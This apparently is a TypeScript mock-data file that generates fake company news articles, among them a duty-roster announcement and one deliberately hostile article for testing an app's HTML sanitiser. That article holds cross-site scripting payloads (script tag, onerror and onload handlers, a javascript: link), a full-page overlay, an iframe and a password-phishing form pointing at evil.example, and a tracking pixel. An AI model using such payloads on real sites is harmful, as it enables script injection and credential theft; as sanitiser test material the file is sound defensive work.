import type { NewsCategory } from '@/domain/news/news';
import { chance } from '@/mocks/core/random';
import { drawn, sceneSize, type SceneName } from './news-drawings';
import { subjects, type Subject } from './news-subjects';

type NewsPart =
  | { readonly kind: 'html'; readonly html: string }
  | {
      readonly kind: 'picture';
      readonly src: string;
      readonly alt: string;
      readonly width: number;
      readonly height: number;
    };

/** An article as the gateways keep it. */
export interface NewsArticle {
  readonly id: string;
  readonly category: NewsCategory;
  readonly title: string;
  readonly source: string;
  /** Milliseconds. */
  readonly time: number;
  readonly scene: SceneName;
  readonly pinned: boolean;
  readonly readers: number;
  readonly parts: readonly NewsPart[];
  readonly links: readonly { readonly title: string; readonly line: string; readonly address: string }[];
}

const hour = 3_600_000;
const written = 60;
/** Where the article with hostile HTML stands in the list. */
const carelessPlace = 4;

/** The 60 articles of a world that begins at this moment, in the order of the list. */
export function newsOf(epoch: number): readonly NewsArticle[] {
  const usual = Array.from({ length: written - 2 }, (_, index) => {
    const subject = subjects[index % subjects.length];
    return subject === undefined ? [] : [articleOf(subject, index, epoch)];
  }).flat();
  return [
    duty(epoch),
    ...usual.slice(0, carelessPlace - 1),
    careless(epoch),
    ...usual.slice(carelessPlace - 1),
  ];
}

function articleOf(subject: Subject, index: number, epoch: number): NewsArticle {
  const { category, source, scene, title, text } = subject;
  const issue = Math.ceil(written / subjects.length) - Math.floor(index / subjects.length);
  return {
    id: `N${String(index + 1).padStart(4, '0')}`,
    category,
    title: title(issue),
    source,
    time: epoch - Math.floor((2 + index * 19 + chance(31, index) * 9) * hour),
    scene,
    pinned: false,
    readers: 120 + Math.floor(chance(32, index) * 2400),
    parts: [{ kind: 'html', html: htmlOf(text) }],
    links: [],
  };
}

function htmlOf(text: readonly string[]): string {
  return text
    .map((line) => {
      if (line.startsWith('# ')) return `<h2>${line.slice(2)}</h2>`;
      return line.startsWith('- ') ? `<ul><li>${line.slice(2)}</li></ul>` : `<p>${line}</p>`;
    })
    .join('')
    .replace(/<\/ul><ul>/g, '');
}

const picture = (scene: SceneName, alt: string): NewsPart => ({
  kind: 'picture',
  src: drawn(scene),
  alt,
  ...sceneSize,
});

/** The long one: headings, a table, pictures, and links to a page, to a known host, and to an unknown one. */
function duty(epoch: number): NewsArticle {
  return {
    id: 'N0000',
    category: 'company',
    title: '冬至值班与调休安排已发布',
    source: '集团人力',
    time: epoch - Math.floor(1.2 * hour),
    scene: 'moon',
    pinned: true,
    readers: 2318,
    parts: [
      {
        kind: 'html',
        html:
          '<p>各位同事，冬至当天照常上班，下午四点可以提前离开。客服、安保与工程岗位照常轮值，请提前一周确认班次。</p>' +
          '<h2>值班补贴</h2><table><thead><tr><th>班次</th><th>时间</th><th>每班龙币</th></tr></thead><tbody>' +
          '<tr><td>白班</td><td>08:00–20:00</td><td>88.0</td></tr><tr><td>夜班</td><td>20:00–08:00</td><td>128.0</td></tr></tbody></table>' +
          '<p>补贴在值班后一周内发到个人账户，也可以换成调休。想换班，两人商量好请班长登记。</p>',
      },
      picture('bowl', '食堂冬至当天的一碗热汤圆'),
      {
        kind: 'html',
        html:
          '<h2>当天吃什么</h2><p>食堂从中午起供应水饺和汤圆，值班的同事凭工牌免费加一份。夜班的热粥在零点送到岗位。</p>' +
          '<ul><li>水饺：白菜猪肉、荠菜鸡蛋、玉米虾仁</li><li>汤圆：黑芝麻、花生、枣泥</li></ul>' +
          '<blockquote>“去年的夜班粥里有红枣，今年我们想多放两颗。”——食堂的陈师傅</blockquote>',
      },
      picture('bus', '晚班班车停在云杉中心南门'),
      {
        kind: 'html',
        html:
          '<h2>怎么回家</h2><p>当天的晚班车加开三趟，末班 23:20。值完夜班的同事，早上八点半有车送到地铁站；也可以用<a href="#/newDidiHome">企业打车</a>，费用走公司账户。</p>' +
          '<p>班次表和调休规则放在<a href="https://www.longcoin.example/duty">集团门户</a>，节气的来历可以看看<a href="https://almanac.example.net/dongzhi">这本老黄历</a>。</p>' +
          '<h2>常见问题</h2><p><strong>临时来不了怎么办？</strong>请尽早打给班长，由他调班，不扣补贴以外的钱。</p>' +
          '<p><strong>调休什么时候用完？</strong>到明年 3 月底。没有用完的按白班补贴折成龙币。</p>' +
          '<p><strong>家里有老人孩子要照顾？</strong>请告诉班长，这样的情况优先排白班。</p>',
      },
    ],
    links: [
      {
        title: '值班班次表',
        line: '在线预览',
        address: 'https://card.longcoin.example/files/duty-roster.xlsx',
      },
      { title: '给值班的同事约一份祝福', line: '冬至当天上午 10:00 送达', address: '#/transfer3' },
    ],
  };
}

/** What a careless or a hostile author may send: nothing of it may run, look like the app, or lead past the external link guard. */
function careless(epoch: number): NewsArticle {
  return {
    id: 'N9999',
    category: 'community',
    title: '转载：社区旧物市集的六个小提示',
    source: '员工社团',
    time: epoch - 50 * hour,
    scene: 'gift',
    pinned: false,
    readers: 642,
    parts: [
      {
        kind: 'html',
        html:
          '<p onclick="document.title=\'hit\'" style="position:fixed;inset:0;background:#fff;z-index:999">摆摊前先把价格写在便签上，省得一遍遍回答。</p>' +
          '<script>document.title="hit"</script><img src="x" onerror="document.title=\'hit\'"><svg onload="document.title=\'hit\'"></svg>' +
          '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password" placeholder="支付密码"></form>' +
          '<p>带一个袋子装零钱，也可以让对方<a href="javascript:document.title=\'hit\'">扫付款码</a>。</p>' +
          '<ol><li>早到半小时</li><li>旧衣服先洗净</li><li>易碎的包两层</li><li>坏了的直说</li><li>不卖的别摆</li><li>剩下的捐出去</li></ol>' +
          '<p>更多办法见<a href="https://market.example.net/tips">原文</a>。</p>',
      },
      {
        kind: 'picture',
        src: 'https://tracker.example.net/pixel.png',
        alt: '市集一角',
        width: 320,
        height: 200,
      },
    ],
    links: [],
  };
}
